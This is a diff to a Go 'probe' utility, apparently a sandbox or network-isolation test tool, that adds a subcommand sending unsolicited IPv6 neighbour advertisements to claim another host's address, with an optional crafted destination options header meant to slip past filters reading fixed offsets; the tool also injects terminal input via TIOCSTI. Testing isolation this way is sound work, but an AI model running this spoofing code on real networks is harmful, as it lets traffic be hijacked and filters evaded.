@@ -12,6 +12,11 @@
 //	probe syscall open_by_handle_at
 //	                           call it with a NULL handle and print the
 //	                           errno's name (EPERM when seccomp blocks it)
+//	probe na IFACE TARGET [dstopts]
+//	                           send an unsolicited IPv6 neighbour
+//	                           advertisement (override) claiming TARGET for
+//	                           IFACE's MAC to all nodes, with dstopts behind
+//	                           a destination options header
 //	probe tiocsti TEXT         push TEXT into the input of the terminal on
 //	                           fds 0, 1, 2 and /dev/tty (ioctl TIOCSTI, a
 //	                           byte at a time); print one line per target,
@@ -38,8 +43,15 @@ func main() {
 		tiocsti(os.Args[2])
 		return
 	}
+	if len(os.Args) >= 4 && os.Args[1] == "na" {
+		if err := neighbourAdvert(os.Args[2], os.Args[3], len(os.Args) == 5 && os.Args[4] == "dstopts"); err != nil {
+			fmt.Fprintln(os.Stderr, "probe:", err)
+			os.Exit(1)
+		}
+		return
+	}
 	if len(os.Args) < 4 || len(os.Args) > 5 {
-		fmt.Fprintln(os.Stderr, "usage: probe serve tcp|udp [ADDR:]PORT [TAG] | probe dial tcp|udp HOST:PORT [FROM] | probe syscall NAME | probe tiocsti TEXT")
+		fmt.Fprintln(os.Stderr, "usage: probe serve tcp|udp [ADDR:]PORT [TAG] | probe dial tcp|udp HOST:PORT [FROM] | probe syscall NAME | probe tiocsti TEXT | probe na IFACE TARGET [dstopts]")
 		os.Exit(2)
 	}
 	opt := ""
@@ -189,4 +201,56 @@ func report(target string, err error) {
 		return
 	}
 	fmt.Printf("%s ok\n", target)
+}
+
+// neighbourAdvert sends an unsolicited neighbour advertisement with the
+// override flag to ff02::1 on ifname, claiming target for the interface's
+// MAC, as an attacker taking over a neighbour's IPv6 address would. With
+// dstopts a destination options header (an unknown option, skipped by the
+// receiver) stands before the ICMPv6 header, its bytes shaped so that a
+// filter reading the target at a fixed offset sees a link-local address.
+func neighbourAdvert(ifname, target string, dstopts bool) error {
+	ifi, err := net.InterfaceByName(ifname)
+	if err != nil {
+		return err
+	}
+	tgt := net.ParseIP(target).To16()
+	if tgt == nil {
+		return fmt.Errorf("bad target %q", target)
+	}
+	fd, err := syscall.Socket(syscall.AF_INET6, syscall.SOCK_RAW, syscall.IPPROTO_ICMPV6)
+	if err != nil {
+		return err
+	}
+	defer syscall.Close(fd)
+	if err := syscall.SetsockoptInt(fd, syscall.IPPROTO_IPV6, syscall.IPV6_MULTICAST_HOPS, 255); err != nil {
+		return err
+	}
+	if err := syscall.SetsockoptInt(fd, syscall.IPPROTO_IPV6, syscall.IPV6_MULTICAST_IF, ifi.Index); err != nil {
+		return err
+	}
+	if dstopts {
+		// 16 bytes: next header (set by the kernel), length 1 (2 units of
+		// 8 bytes), option 0x1e (skip if unknown) with 12 bytes of data.
+		opts := []byte{0, 1, 0x1e, 12, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
+		opts[8], opts[9] = 0xfe, 0x80 // 48 bytes into the packet
+		const ipv6Dstopts = 59        // IPV6_DSTOPTS
+		if err := syscall.SetsockoptString(fd, syscall.IPPROTO_IPV6, ipv6Dstopts, string(opts)); err != nil {
+			return fmt.Errorf("destination options: %w", err)
+		}
+	}
+	// Type 136, code 0, checksum (the kernel's), flags: override.
+	msg := []byte{136, 0, 0, 0, 0x20, 0, 0, 0}
+	msg = append(msg, tgt...)
+	msg = append(msg, 2, 1) // target link-layer address option
+	msg = append(msg, ifi.HardwareAddr...)
+	to := &syscall.SockaddrInet6{ZoneId: uint32(ifi.Index)}
+	copy(to.Addr[:], net.ParseIP("ff02::1").To16())
+	for i := 0; i < 3; i++ {
+		if err := syscall.Sendto(fd, msg, 0, to); err != nil {
+			return err
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	return nil
 }
